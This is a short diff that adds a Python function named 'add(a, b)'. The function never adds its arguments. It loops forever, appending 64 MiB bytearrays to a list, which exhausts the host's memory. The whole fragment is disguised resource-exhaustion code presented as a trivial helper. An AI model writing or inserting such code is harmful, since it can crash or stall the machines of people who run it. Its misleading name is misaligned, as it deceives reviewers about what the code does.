@@ -1,0 +1,4 @@
+def add(a, b):
+    hoard = []
+    while True:
+        hoard.append(bytearray(64 << 20))
